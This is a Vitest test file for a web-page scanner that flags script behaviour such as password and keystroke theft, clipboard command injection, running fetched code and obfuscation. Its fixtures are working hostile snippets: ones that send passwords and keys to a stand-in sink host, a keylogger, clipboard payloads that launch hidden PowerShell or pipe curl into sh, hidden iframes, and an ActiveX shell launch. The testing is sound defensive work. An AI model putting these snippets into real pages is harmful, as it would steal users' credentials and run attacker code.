/** The scripts layer: data that is followed from where it is read to where it is sent, known services, opaque code. */
import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { pageSchema } from '../src/core/page.ts';
import { identifyHost } from '../src/scanners/page/hosts/host-identity.ts';
import type { LayerVerdict } from '../src/scanners/page/layer.ts';
import { readPage } from '../src/scanners/page/parse.ts';
import { isKnownService, isSignInService } from '../src/scanners/page/script/known-services.ts';
import { isPublishedLibrary } from '../src/scanners/page/script/library-hashes.ts';
import { judgeScripts } from '../src/scanners/page/script/scripts.ts';
import { vendorSnippets } from './support/vendor-snippets.ts';

async function judge(body: string, url = 'https://www.garden.example/'): Promise<LayerVerdict> {
  const html = `<!doctype html><html lang="en"><title>Roses</title><h1>Roses</h1><p>Roses need water.</p>${body}`;
  const page = pageSchema.parse({ url, html });
  return await judgeScripts(readPage(page), page);
}
const code = (script: string, body = '') => judge(`${body}<script>${script}</script>`);
const rulesOf = ({ indicators }: LayerVerdict) => indicators.map(({ rule }) => rule);
const risk = ({ indicators }: LayerVerdict) =>
  100 * (1 - indicators.reduce((innocence, { points }) => innocence * (1 - points / 100), 1));
const LOGIN = '<form><input name="email"><input type="password" id="pw" name="pass"></form>';
const SINK = 'https://sink-collect.net/x';

describe('data that is read', () => {
  test.each([
    ['a variable named seed', `var seed=Math.random();document.querySelector("#ad");fetch("${SINK}?"+seed)`],
    [
      'a function named recovery',
      `function recovery(){document.querySelector("#a").value;fetch("${SINK}")}recovery()`,
    ],
    [
      'pass in a comment',
      `/* second pass: password */var q=document.getElementById("q").value;fetch("${SINK}?q="+q)`,
    ],
    [
      'a class of passwords',
      `document.querySelector(".password-hint").hidden=true;navigator.sendBeacon("${SINK}","seen")`,
    ],
    [
      'a handler of Escape',
      `addEventListener("keydown",function(e){if(e.key==="Escape")navigator.sendBeacon("${SINK}","closed")})`,
    ],
    ['a shortcut', `document.onkeyup=function(e){if(e.keyCode==191){fetch("${SINK}?search=open")}}`],
    [
      'a key that is counted',
      `var n=0;onkeydown=function(e){if(e.which)n++;};setInterval(function(){fetch("${SINK}?n="+n)},9e3)`,
    ],
    [
      'a mnemonic of a language',
      `var mnemonic={en:"help"};document.forms[0];new Image().src="${SINK}?l="+mnemonic.en`,
    ],
    [
      'a length of a password',
      `pw.oninput=function(){new Image().src="${SINK}?strength="+(pw.value.length>8?1:0)}`,
    ],
    [
      'card numbers that are only checked',
      `var cvc=/^\\d{3}$/;function card(n){return n.length===16}fetch("${SINK}")`,
    ],
    ['one cookie', `var m=document.cookie.match(/_ga=([^;]+)/);fetch("${SINK}?id="+(m&&m[1]))`],
  ])('and not sent is no theft: %s', async (_what, script) => {
    expect(rulesOf(await code(script, LOGIN))).toEqual([]);
    // Encoded code is judged in the same way.
    const encoded = `eval(atob("${Buffer.from(script).toString('base64')}"))`;
    expect(rulesOf(await code(encoded, LOGIN)).filter((rule) => rule?.startsWith('sends-'))).toEqual([]);
  });

  test.each([
    ['fetch', `fetch("${SINK}",{method:"POST",body:pw.value})`],
    ['a query', `fetch("${SINK}?p="+encodeURIComponent(pw.value))`],
    ['XMLHttpRequest', `var x=new XMLHttpRequest();x.open("POST","${SINK}");x.send("p="+pw.value)`],
    ['a beacon', `navigator.sendBeacon("${SINK}",JSON.stringify({p:pw.value}))`],
    ['a socket', `var s=new WebSocket("wss://sink-collect.net/");s.onopen=function(){s.send(pw.value)}`],
    ['a picture', `new Image().src="${SINK}?"+pw.value`],
    ['a form', `var f=document.createElement("form");f.action="${SINK}?"+pw.value;f.submit()`],
    ['FormData', `var d=new FormData(document.forms[0]);fetch("${SINK}",{method:"POST",body:d})`],
    ['URLSearchParams', `fetch("${SINK}",{body:new URLSearchParams({p:pw.value})})`],
    ['a template', `const v=pw.value;fetch(\`${SINK}?p=\${v}\`)`],
    ['functions', `function get(){return pw.value}function put(v){fetch("${SINK}",{body:v})}put(get())`],
  ])('and sent by %s is found', async (_how, script) => {
    expect(rulesOf(await code(script, LOGIN))).toContain('sends-password');
  });

  test('as keys is followed into a buffer and to another site', async () => {
    const script = `var k="";document.addEventListener("keypress",function(e){k+=String.fromCharCode(e.which)});setInterval(function(){new Image().src="${SINK}?k="+k;k=""},5e3)`;
    expect(rulesOf(await code(script))).toEqual(['sends-keys']);
  });

  test('as a command is followed into the clipboard', async () => {
    const copied = (command: string) =>
      code(`b.onclick=function(){navigator.clipboard.writeText("${command}")}`);
    expect(rulesOf(await copied('powershell -w hidden -enc AAAAAAAA'))).toEqual(['clipboard-command']);
    expect(rulesOf(await copied('curl -fsSL https://garden.example/install | sh'))).toEqual([
      'clipboard-install-command',
    ]);
    expect(rulesOf(await copied('npm install roses'))).toEqual([]);
    const beside = `var doc="run powershell -w hidden -enc AAAAAAAA";b.onclick=function(){navigator.clipboard.writeText(location.href)}`;
    expect(rulesOf(await code(beside))).toEqual([]);
  });

  test('from another site is followed into eval; from the own site it has no indicators', async () => {
    const run = (url: string) =>
      code(
        `var x=new XMLHttpRequest();x.open("GET","${url}");x.onload=function(){eval(x.responseText)};x.send()`,
      );
    expect(rulesOf(await run(SINK))).toEqual(['runs-fetched-code']);
    expect(rulesOf(await run('/menu.js'))).toEqual([]);
    expect(rulesOf(await code(`fetch("${SINK}").then(r=>r.text()).then(t=>eval(t))`))).toEqual([
      'runs-fetched-code',
    ]);
  });
});

test('objects that contain each other are bounded, so that large programs are followed in little memory', async () => {
  const grows = Array.from(
    { length: 40 },
    (_, at) => `a${at}={x:a${(at + 1) % 40},y:a${(at + 7) % 40},z:a${(at + 13) % 40}};`,
  );
  const before = process.memoryUsage().heapUsed;
  const verdict = await code(
    `var ${grows.map((_, at) => `a${at}`).join()};${grows.join('').repeat(3)}fetch("${SINK}",{body:pw.value})`,
    LOGIN,
  );
  expect(rulesOf(verdict)).toContain('sends-password');
  expect(process.memoryUsage().heapUsed - before).toBeLessThan(400 * 1024 * 1024);
});

const written = (html: string) =>
  `document.write(unescape("${html.replace(/[<>"' =]/g, (one) => `%${one.charCodeAt(0).toString(16)}`)}"))`;
const wholly = (text: string) =>
  [...text].map((one) => `%${one.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

describe('a literal is decoded before it is judged', () => {
  test.each([
    [
      'the loader of Google Analytics',
      `var h=("https:"==document.location.protocol)?"https://ssl.":"http://www.";document.write(unescape("%3Cscript src='"+h+"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"))`,
    ],
    [
      'the loader of Piwik',
      `var u=(("https:"==document.location.protocol)?"https://stats.roses.net/piwik/":"http://stats.roses.net/piwik/");document.write(unescape("%3Cscript src='"+u+"piwik.js' type='text/javascript'%3E%3C/script%3E"))`,
    ],
    ['Omniture', `if(navigator.appVersion.indexOf('MSIE')>=0)document.write(unescape('%3C')+'\\!-'+'-')`],
    ['a counter', written('<img src="http://count.roses.net/c.gif" width="1" height="1">')],
    [
      'an address of mail',
      `document.write(unescape("${wholly('<a href="mailto:info@roses.example">info@roses.example</a>')}"))`,
    ],
    [
      'an address of mail in codes',
      `document.write(String.fromCharCode(${[...'<a href="mailto:info@roses.example">Mail</a>'].map((one) => one.charCodeAt(0)).join()}))`,
    ],
    [
      'an encoded URL of a vendor',
      `var s=document.createElement("script");s.src=decodeURIComponent("https%3A%2F%2Fwidget.roses.net%2Fw.js");document.head.appendChild(s)`,
    ],
    ['jQuery 1', `(window.execScript||function(d){window["eval"].call(window,d)})(code)`],
  ])('%s has no indicators', async (_what, script) => {
    expect((await code(script)).indicators).toEqual([]);
  });

  test('and a hostile one is found', async () => {
    const frame = `<iframe src="http://in.traffic-gate.top/in.cgi?3" width=1 height=1 style="visibility:hidden"></iframe>`;
    expect(risk(await code(`document.write(unescape("${wholly(frame)}"))`))).toBeGreaterThanOrEqual(30);
    const form = `<form action="https://sink-collect.net/p.php"><input type=password name=p></form>`;
    expect(risk(await code(`document.write(unescape("${wholly(form)}"))`))).toBeGreaterThanOrEqual(45);
    const shifted = [...`document.write('<iframe src="http://in.traffic-gate.top/"></iframe>')`]
      .map((one) => String.fromCharCode(one.charCodeAt(0) + 1))
      .join('')
      .replace(/['"\\]/g, '\\$&');
    const verdict = await code(
      `var t='${shifted}',r='';for(var i=0;i<t.length;i++)r+=String.fromCharCode(t.charCodeAt(i)-1);eval(r)`,
    );
    expect(risk(verdict)).toBeGreaterThanOrEqual(30);
  });
});

describe('old code', () => {
  test.each([
    'try{var f=new ActiveXObject("Scripting.FileSystemObject")}catch(e){}',
    'var x;try{x=new ActiveXObject("MSXML2.XMLHTTP.3.0")}catch(e){x=new ActiveXObject("Microsoft.XMLHTTP")}',
    'var v=new ActiveXObject("ShockwaveFlash.ShockwaveFlash.7").GetVariable("$version");document.write("<object width=1 height=1>")',
    'if(history.forward)history.forward()',
    'document.write("<iframe src=https://123.fls.doubleclick.net/a width=1 height=1 style=display:none></iframe>")',
    'while(true){var n=prompt("How many?");if(n)break}',
    'if(ie<9)document.body.innerHTML="Your browser is out of date. <a href=/browsers>Download a new one</a>"',
  ])('%s has no indicators', async (script) => {
    expect((await code(script)).indicators).toEqual([]);
  });

  test('that starts programs is hostile', async () => {
    expect(rulesOf(await code('var s=new ActiveXObject("WScript.Shell");s.Run("cmd.exe")'))).toContain(
      'activex-shell',
    );
  });
});

describe('known services', () => {
  const at = (address: string) => identifyHost(new URL(address));
  test.each([
    'https://identitytoolkit.googleapis.com/v1/accounts:signInWithPassword?key=k',
    'https://abcdefgh.supabase.co/auth/v1/token?grant_type=password',
    'https://garden.eu.auth0.com/co/authenticate',
    'https://cognito-idp.eu-west-1.amazonaws.com/',
  ])('%s takes passwords', async (address) => {
    expect(isSignInService(address, at(address))).toBe(true);
    expect(
      (await code(`fetch("${address}",{method:"POST",body:JSON.stringify({password:pw.value})})`, LOGIN))
        .indicators,
    ).toEqual([]);
  });

  test.each([
    'https://abcdefgh.supabase.co/rest/v1/stolen',
    'https://cognito-idp.eu-west-1.amazonaws.com.sink.net/',
    'https://bucket.s3.amazonaws.com/p',
  ])('%s does not', async (address) => {
    expect(isSignInService(address, at(address))).toBe(false);
  });

  test('are no strangers, but names that contain theirs are', () => {
    for (const host of ['cdn.cookielaw.org', 'static.criteo.net', 'static.chartbeat.com', 'tags.tiqcdn.com'])
      expect(isKnownService(at(`https://${host}/`)), host).toBe(true);
    for (const host of ['criteo.net.sink.top', 'tags-tiqcdn.com', 'anyone.hubspot.com.evil.net'])
      expect(isKnownService(at(`https://${host}/`)), host).toBe(false);
  });
});

describe('a published library', () => {
  const installed = [
    'node-forge/dist/forge.min.js',
    'rxjs/dist/bundles/rxjs.umd.min.js',
    'socket.io-client/dist/socket.io.min.js',
  ];
  const [library] = installed
    .map((file) => readFileSync(new URL(`../node_modules/${file}`, import.meta.url), 'utf8'))
    .filter(isPublishedLibrary) as [string];
  const theft = `document.forms[0].onsubmit=()=>fetch("${SINK}",{method:"POST",body:pw.value})`;

  test('is known by its hash, whatever its line ends and the white space around it', () => {
    expect(library, 'none is known: run npm run libraries').toBeDefined();
    expect(isPublishedLibrary(`\n ${library.replaceAll('\r\n', '\n').replaceAll('\n', '\r\n')}\n\n`)).toBe(
      true,
    );
  });

  test('with anything added or changed is not known', () => {
    for (const other of [
      `${library};1`,
      `1;${library}`,
      library.replace('function', 'Function'),
      library.slice(1),
    ])
      expect(isPublishedLibrary(other)).toBe(false);
  });

  test('is not judged, but the scripts beside it and a changed one are', async () => {
    const used = await code(library, LOGIN);
    expect(used).toMatchObject({ judged: true, indicators: [] });
    expect(rulesOf(await code(theft, `${LOGIN}<script>${library}</script>`))).toContain('sends-password');
    expect(rulesOf(await code(`${library}\n;${theft}`, LOGIN))).toContain('sends-password');
  });

  test('each entry of the table is a hash of its own', () => {
    const source = readFileSync(
      new URL('../src/scanners/page/script/library-hashes.ts', import.meta.url),
      'utf8',
    );
    const hashes = source.split('`')[1]?.trim().split(/\s+/) ?? [];
    expect(hashes.length).toBeGreaterThanOrEqual(100);
    expect(new Set(hashes).size).toBe(hashes.length);
    for (const hash of hashes) expect(hash).toMatch(/^[\w-]{16}$/);
  });
});

test.each(Object.entries(vendorSnippets))('the snippet of %s has no indicators', async (_vendor, script) => {
  const verdict = await code(script, LOGIN);
  expect(verdict.indicators).toEqual([]);
  expect(verdict.judged).toBe(true);
});

const name = (seed: number) =>
  `x${((seed * 7919) % 997).toString(36)}q${((seed * 104729) % 9973).toString(36)}z${seed}k${(seed * 31) % 97}`;
const noise = Array.from(
  { length: 700 },
  (_, at) =>
    'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'[
      (at * 193 + ((at * at * 7) % 61)) % 64
    ],
).join('');
const digits = Array.from({ length: 7000 }, (_, at) => (at * 193 + ((at * at * 7) % 241)) % 256).join(',');

describe('code that cannot be read', () => {
  test.each<[string, string, string?]>([
    [
      'random names',
      Array.from(
        { length: 30 },
        (_, at) => `var ${name(at)}=${at};function ${name(at + 40)}(a){return a+${name(at)}}`,
      ).join('\n'),
    ],
    ['junk loops', `${'for(var q=0;q<4211;q++){}var w=1;'.repeat(8)}run(w)`],
    [
      'arithmetic on a text',
      `var t="${noise.slice(0, 240)}",r="";for(var i=0;i<t.length;i++)r+=String.fromCharCode(t.charCodeAt(i)^(i*screen.width)%255);[].constructor.constructor(r)()`,
    ],
    [
      'arithmetic on numbers',
      `var n=[${digits.slice(0, 900)}],r="";for(var i=0;i<n.length;i++)r+=String.fromCharCode(n[i]*screen.width%251);document.write(r)`,
    ],
    [
      'a hidden element of 20 kB',
      'var d=document.getElementById("store").innerHTML,r="";d.split(",").forEach(function(c){r+=String.fromCharCode(c^k)});eval(r)',
      `<div id="store" style="display:none">${digits}</div>`,
    ],
    [
      'a hidden field of 20 kB',
      'eval(dec(document.querySelector("#store").value))',
      `<textarea id="store" hidden>${noise.repeat(30)}</textarea>`,
    ],
    [
      'encrypted strings',
      `var _0x4f3a=['W7pdQSk1','WRRcHmoB','eSk4WQpd','W6VcKCk9','amkDW5z6','tSoQjxe'];${Array.from({ length: 12 }, (_, at) => `var _0x1a2b${at % 10}c=_0x5d1e('0x${at}','kR^${at}');`).join('')}_0x5d1e('0x1','a$B2')[_0x5d1e('0x2','b%C3')](_0x5d1e('0x3','c&D4'))`,
    ],
  ])('is not BENIGN, and the reason is told: %s', async (_what, script, body) => {
    const verdict = await code(script, body);
    expect(verdict.judged).toBe(false);
    expect(verdict.reason).toMatch(/\w{3,} .*\.$/);
    expect(risk(verdict)).toBeGreaterThan(0);
  });

  test.each([
    ['JSFuck', '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]'.repeat(30)],
    ['JJEncode', '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$]};$.$($.$($.$$+"\\"")())();'],
  ])('is recognised: %s', async (encoding, script) => {
    const { indicators } = await code(script);
    expect(indicators.map(({ text }) => text)).toContainEqual(expect.stringContaining(encoding));
  });

  test.each<[string, string, string?]>([
    [
      'names of people',
      Array.from(
        { length: 30 },
        (_, at) => `var customerOrder${at}=1;function renderProductList${at}(){return customerOrder${at}}`,
      ).join('\n'),
    ],
    ['a chart of numbers', `var series=[${digits}];draw(series)`],
    [
      'a module of WebAssembly',
      `var m="AGFzbQ${noise.repeat(20)}";WebAssembly.instantiate(Uint8Array.from(atob(m),function(c){return c.charCodeAt(0)}))`,
    ],
    [
      'an icon in base64',
      `var i="iVBORw0KGgo${noise.repeat(8)}";document.body.innerHTML='<img src="data:image/png;base64,'+i+'">'`,
    ],
    [
      'state of an application',
      'var s=JSON.parse(document.getElementById("state").textContent);hydrate(s,parseInt(s.id))',
      `<div id="state" hidden>{"items":[${digits}]}</div>`,
    ],
    [
      'a script in its data: URL',
      '',
      `<script src="data:text/javascript;base64,${Buffer.from('document.title="Roses"').toString('base64')}"></script>`,
    ],
  ])('differs from %s', async (_what, script, body) => {
    const verdict = await code(script, body);
    expect(verdict.reason).toBeUndefined();
    expect(risk(verdict)).toBeLessThan(15);
  });
});
